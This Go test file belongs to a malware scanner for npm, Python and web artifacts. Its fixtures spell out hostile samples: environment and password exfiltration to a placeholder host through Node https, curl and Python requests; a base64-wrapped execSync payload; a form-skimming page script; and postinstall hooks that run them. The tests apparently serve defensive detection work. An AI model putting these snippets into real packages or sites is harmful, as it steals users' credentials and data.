package detect_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"reflect"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"taisei/detect"
)

func folder(files map[string]string) fstest.MapFS {
	out := fstest.MapFS{}
	for name, data := range files {
		out[name] = &fstest.MapFile{Data: []byte(data)}
	}
	return out
}

func tarball(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var out bytes.Buffer
	zw := gzip.NewWriter(&out)
	tw := tar.NewWriter(zw)
	for _, name := range slices.Sorted(maps.Keys(files)) {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(files[name]))}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(files[name])); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

const beacon = `require('https').request({hostname:'c.example',method:'POST'}).end(JSON.stringify(process.env))`

// TestTriggers holds that what has to happen for code to run is told right.
func TestTriggers(t *testing.T) {
	tests := []struct {
		name  string
		files map[string]string
		want  string
	}{
		{"a file that postinstall runs", map[string]string{"package.json": `{"scripts":{"postinstall":"node ./lib/x"}}`, "lib/x.js": beacon}, "install"},
		{"a file that a script of the postinstall runs", map[string]string{"package.json": `{"scripts":{"install":"sh i.sh"}}`, "i.sh": "#!/bin/sh\ncd .\nnode x.js\n", "x.js": beacon}, "install"},
		{"prepare, by npm run", map[string]string{"package.json": `{"scripts":{"prepare":"node -e \"require('./x')\""}}`, "x.js": beacon}, "install"},
		{"prepack", map[string]string{"package.json": `{"scripts":{"prepack":"node x.js"}}`, "x.js": beacon}, "build"},
		{"main", map[string]string{"package.json": `{"main":"./x"}`, "x.js": beacon}, "import"},
		{"no main", map[string]string{"package.json": `{}`, "index.js": beacon}, "import"},
		{"exports", map[string]string{"package.json": `{"exports":{".":{"require":"./x.cjs"}}}`, "x.cjs": beacon}, "import"},
		{"a file that main requires", map[string]string{"package.json": `{"main":"a.js"}`, "a.js": "exports.x=require('./lib/b')", "lib/b.js": beacon}, "import"},
		{"a bundled dependency", map[string]string{"package.json": `{"main":"a.js"}`, "a.js": "require('dep')", "node_modules/dep/package.json": `{"main":"b.js"}`, "node_modules/dep/b.js": beacon}, "import"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := scan(t, detect.Artifact{Name: "p", Folder: folder(tt.files)})
			if f := found(t, r, "environment_sent"); f.Behaviour.Trigger != tt.want || r.Verdict != detect.Malicious {
				t.Errorf("trigger %s, verdict %s", f.Behaviour.Trigger, r.Verdict)
			}
		})
	}
}

// TestWeakTriggers holds that what only tests or nobody runs counts less.
func TestWeakTriggers(t *testing.T) {
	secret := "password=$(gen)\ncurl -d \"$password\" https://c.example/\n"
	tests := []struct {
		name    string
		files   map[string]string
		trigger string
		verdict detect.Verdict
	}{
		{"nothing names it", map[string]string{"package.json": `{}`, "index.js": "", "tools/x.sh": secret}, "call", detect.Malicious},
		{"bin", map[string]string{"package.json": `{"bin":{"x":"x.sh"}}`, "x.sh": secret}, "command", detect.Malicious},
		{"a test", map[string]string{"package.json": `{}`, "index.js": "", "test/x.sh": secret}, "unreachable", detect.Suspicious},
		{"a test that postinstall runs", map[string]string{"package.json": `{"scripts":{"postinstall":"sh test/x.sh"}}`, "test/x.sh": secret}, "install", detect.Malicious},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := scan(t, detect.Artifact{Name: "p", Folder: folder(tt.files)})
			if f := found(t, r, "password_sent"); f.Behaviour.Trigger != tt.trigger || r.Verdict != tt.verdict {
				t.Errorf("trigger %s, verdict %s", f.Behaviour.Trigger, r.Verdict)
			}
		})
	}
}

// TestUnread holds that what runs and was not read keeps an artifact from being
// clean, and that what does not run does not.
func TestUnread(t *testing.T) {
	elf := "\x7fELF" + strings.Repeat("\x00", 100)
	deep := "function f(){return " + strings.Repeat("-(", 400) + "g()" + strings.Repeat(")", 400) + "}\n"
	for i := range 60 {
		deep += strings.NewReplacer("f()", fmt.Sprintf("f%d()", i), "g()", fmt.Sprintf("f%d()", i+1)).Replace(strings.SplitAfterN(deep, "\n", 2)[0])
	}
	tests := []struct {
		name  string
		files map[string]string
		want  detect.Verdict
		note  string // the reason that is listed, if any
	}{
		{"calls nested too deep", map[string]string{"package.json": `{}`, "index.js": deep + "f0()"}, detect.Unscanned, "depth"},
		{"data alone", map[string]string{"package.json": `{}`, "index.js": "", "README.md": "x", "a.css": "x", "t.d.ts": "x", "x.json": "{}"}, detect.Clean, ""},
		{"a program in Lua that a script runs", map[string]string{"package.json": `{"scripts":{"postinstall":"lua build.lua"}}`, "index.js": "", "build.lua": "print(1)"}, detect.Unscanned, "language"},
		{"by its first line, that a program names", map[string]string{"package.json": `{}`, "index.js": "run('tool')", "tool": "#!/usr/bin/env perl\nprint 1"}, detect.Unscanned, "language"},
		{"AppleScript that a program names", map[string]string{"package.json": `{}`, "index.js": "f('i.scpt')", "i.scpt": "beep"}, detect.Unscanned, "language"},
		{"a script of a wheel's", map[string]string{"p-1.dist-info/METADATA": "Name: p", "p-1.data/scripts/tool": "#!/usr/bin/env perl\nprint 1"}, detect.Unscanned, "language"},
		{"completions that nothing names", map[string]string{"p-1.dist-info/METADATA": "Name: p", "p/__init__.py": "", "p-1.data/data/p.fish": "complete -c p -l help"}, detect.Clean, "language"},
		{"commands of a program that nothing names", map[string]string{"package.json": `{}`, "index.js": "", "b.pl": "system('curl -d \"$(env)\" https://a1.ngrok-free.app/in');"}, detect.Malicious, "language"},
		{"a source that a program reads as data", map[string]string{"package.json": `{"main":"x.js"}`, "x.js": "require('fs').readFileSync(__dirname+'/x.h')", "x.h": "int f(void);"}, detect.Clean, "language"},
		{"a native binary is a fact alone", map[string]string{"package.json": `{}`, "index.js": "", "bin/x": elf}, detect.Clean, "binary"},
		{"an addon", map[string]string{"package.json": `{"main":"x.node"}`, "x.node": elf}, detect.Clean, "binary"},
		{"a main that has to be compiled", map[string]string{"package.json": `{"main":"x.coffee"}`, "x.coffee": "a = 1"}, detect.Unscanned, "language"},
		{"malice wins", map[string]string{"package.json": `{"main":"x.js"}`, "x.js": beacon, "y.lua": "1"}, detect.Malicious, "language"},
		{"a foreign program of the documents", map[string]string{"package.json": `{}`, "index.js": "", "docs/make.tcl": "x"}, detect.Clean, "language"},
		{"a broken archive of a test", map[string]string{"package.json": `{}`, "index.js": "", "test/x.zip": "PK\x03\x04", "test/y.7z": "7z\xbc\xaf\x27\x1c"}, detect.Clean, "format"},
		{"one that a script unpacks", map[string]string{"package.json": `{"scripts":{"postinstall":"7z x test/y.7z"}}`, "index.js": "", "test/y.7z": "7z\xbc\xaf\x27\x1c"}, detect.Unscanned, "format"},
		{"one that a program names", map[string]string{"package.json": `{}`, "index.js": "f('y.7z')", "test/y.7z": "7z\xbc\xaf\x27\x1c"}, detect.Unscanned, "format"},
		{"one that a test names", map[string]string{"package.json": `{}`, "index.js": "", "test/x.js": "f('y.7z')", "test/y.7z": "7z\xbc\xaf\x27\x1c"}, detect.Clean, "format"},
		{"one that is no test", map[string]string{"package.json": `{}`, "index.js": "", "y.7z": "7z\xbc\xaf\x27\x1c"}, detect.Unscanned, "format"},
		{"a static library", map[string]string{"package.json": `{}`, "index.js": "", "lib/x.a": "!<arch>\nx.o/"}, detect.Clean, "binary"},
		{"brackets without end", map[string]string{"package.json": `{"main":"x.js"}`, "x.js": strings.Repeat("[", 100_000)}, detect.Unscanned, "depth"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := scan(t, detect.Artifact{Name: "p", Folder: folder(tt.files)})
			if r.Verdict != tt.want {
				t.Errorf("verdict %s, findings %v, unread %v", r.Verdict, r.Findings, r.Unread)
			}
			listed := slices.ContainsFunc(r.Unread, func(u detect.Unread) bool { return u.Reason == tt.note && u.Message != "" })
			if listed != (tt.note != "") {
				t.Errorf("unread %v, want the reason %q", r.Unread, tt.note)
			}
		})
	}
}

// TestFlooded holds that much of what is harmless does not hide what is not, and that
// too much of it is told.
func TestFlooded(t *testing.T) {
	for lines, want := range map[int]detect.Verdict{2_500: detect.Malicious, 25_000: detect.Unscanned} {
		var source strings.Builder
		source.WriteString("import os, requests\n")
		for i := range lines {
			fmt.Fprintf(&source, "os.system(os.environ.get('V%d', ''))\n", i)
		}
		source.WriteString("requests.post('https://c.example/in', json=dict(os.environ))\n")
		r := scan(t, detect.Artifact{Name: "flood.py", Bytes: []byte(source.String())})
		told := slices.ContainsFunc(r.Unread, func(u detect.Unread) bool { return u.Reason == "facts" && u.Runs })
		if r.Verdict != want || told != (want == detect.Unscanned) {
			t.Errorf("%d lines: verdict %s, unread %v", lines, r.Verdict, r.Unread)
		}
	}
}

// TestLayers holds that no number of programs inside the program, and no depth of them,
// makes one go unread without a word.
func TestLayers(t *testing.T) {
	payload := "import os, requests; requests.post('https://c.example/in', json=dict(os.environ))"
	many := "x = 0\n"
	for i := range 3_000 {
		many += fmt.Sprintf("exec('x = %d')\n", i)
	}
	deep := payload
	for range 4 {
		deep = fmt.Sprintf("exec(%q)", deep)
	}
	deeper := deep
	for range 6 {
		deeper = fmt.Sprintf("exec(%q)", deeper)
	}
	for name, tt := range map[string]struct {
		source string
		want   detect.Verdict
	}{
		"many": {many + fmt.Sprintf("exec(%q)\n", payload), detect.Malicious},
		"deep": {deep, detect.Malicious}, "too deep": {deeper, detect.Unscanned},
	} {
		r := scan(t, detect.Artifact{Name: "layers.py", Bytes: []byte(tt.source)})
		told := slices.ContainsFunc(r.Unread, func(u detect.Unread) bool { return u.Reason == "layers" && u.Runs })
		if r.Verdict != tt.want || told != (tt.want == detect.Unscanned) {
			t.Errorf("%s: verdict %s, unread %v", name, r.Verdict, r.Unread)
		}
	}
}

// TestArchive holds that a package is the same in its archive as in a folder.
func TestArchive(t *testing.T) {
	files := map[string]string{"package/package.json": `{"scripts":{"postinstall":"node x.js"}}`, "package/x.js": "\n\n  " + beacon}
	r := scan(t, detect.Artifact{Name: "pkg:npm/p@1.0.0", PURL: "pkg:npm/p@1.0.0", Bytes: tarball(t, files)})
	f := found(t, r, "environment_sent")
	if r.Verdict != detect.Malicious || f.Location.Path != "x.js" || f.Location.Line != 3 || len(r.SHA256) != 64 || r.Files != 2 {
		t.Errorf("result %+v", r)
	}
}

func TestTruncatedArchive(t *testing.T) {
	data := tarball(t, map[string]string{"package/package.json": `{}`, "package/x.js": strings.Repeat("f(1);\n", 5000)})
	r := scan(t, detect.Artifact{Name: "p.tgz", Bytes: data[:len(data)/2]})
	if r.Verdict != detect.Unscanned || len(r.Unread) == 0 {
		t.Errorf("verdict %s, unread %v", r.Verdict, r.Unread)
	}
}

// TestPage reads the scripts of a page at their own lines.
func TestPage(t *testing.T) {
	page := "<!doctype html>\n<script type='application/json'>{\"a\":</script>\n<script>var f = document.forms[0]</script>\n" +
		"<form></form><script>\n  document.onclick = () => fetch('https://c.example/g', {method: 'POST', body: new FormData(f)})\n</script>"
	r := scan(t, detect.Artifact{Name: "https://shop.example/pay", Bytes: []byte(page)})
	if f := found(t, r, "form_copied"); f.Location.Line != 5 || f.Behaviour.Trigger != "event" {
		t.Errorf("finding %+v", f)
	}
	own := strings.ReplaceAll(page, "c.example", "api.shop.example")
	if r := scan(t, detect.Artifact{Name: "https://shop.example/pay", Bytes: []byte(own)}); r.Verdict != detect.Clean {
		t.Errorf("its own host: %s %v", r.Verdict, r.Findings)
	}
}

// TestLayer holds that what a decoded program does is told at the line that
// decodes it.
func TestLayer(t *testing.T) {
	source := "// one\nvar a = 'Y3VybCAtcyAtZCAiJChlbnYpIiBodHRwczovL2MuZXhhbXBsZS94';\n\nvar b = Buffer.from(a, 'base64').toString();\nrequire('child_process').execSync(b);\n"
	r := scan(t, detect.Artifact{Name: "p", Folder: folder(map[string]string{"package.json": `{"main":"x.js"}`, "x.js": source})})
	if f := found(t, r, "environment_sent"); f.Location.Line != 4 || f.Behaviour.Target != "c.example" {
		t.Errorf("finding %+v", f)
	}
}

// TestResultJSON pins the contract of JSON Lines.
func TestResultJSON(t *testing.T) {
	r := scan(t, detect.Artifact{Name: "install.sh", Bytes: []byte("password=$(gen)\ncurl -d \"$password\" https://c.example/\n")})
	data, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	var got map[string]any
	if err := json.Unmarshal(data, &got); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"target", "verdict", "score", "findings", "unread", "files", "bytes", "steps"} {
		if _, ok := got[key]; !ok {
			t.Errorf("no %s in %s", key, data)
		}
	}
	finding := got["findings"].([]any)[0].(map[string]any)
	for _, key := range []string{"rule", "severity", "behaviour", "location", "key", "params"} {
		if _, ok := finding[key]; !ok {
			t.Errorf("no %s in the finding %s", key, data)
		}
	}
	clean, err := json.Marshal(scan(t, detect.Artifact{Name: "x.sh", Bytes: []byte("ls\n")}))
	if err != nil || !bytes.Contains(clean, []byte(`"findings":[]`)) || !bytes.Contains(clean, []byte(`"unread":[]`)) {
		t.Errorf("lists are never null: %s %v", clean, err)
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	r := detect.Scan(ctx, detect.Artifact{Name: "x.js", Bytes: []byte(strings.Repeat("f(1);", 10000))}, detect.DefaultLimits)
	if r.Error == "" || r.Verdict == detect.Clean {
		t.Errorf("result %+v", r)
	}
}

// TestBudget holds that what is not analysed for want of steps is never clean.
func TestBudget(t *testing.T) {
	l := detect.DefaultLimits
	l.Engine.Steps, l.Engine.StepsPerByte = 100, 0
	r := detect.Scan(context.Background(), detect.Artifact{Name: "x.js", Bytes: []byte(strings.Repeat("f(1);", 10000))}, l)
	if r.Verdict != detect.Unscanned || len(r.Unread) != 1 || r.Unread[0].Reason != "steps" {
		t.Errorf("verdict %s, unread %v", r.Verdict, r.Unread)
	}
}

// TestSame holds that the same bytes give the same result, to the last step.
func TestSame(t *testing.T) {
	for _, name := range []string{"vestacp/tampered", "british_airways/tampered/gauge-2.4.1.js", "event_stream/tampered"} {
		a, b := scan(t, load(t, name)), scan(t, load(t, name))
		if !reflect.DeepEqual(a, b) {
			t.Errorf("%s: %+v and %+v", name, a, b)
		}
	}
}
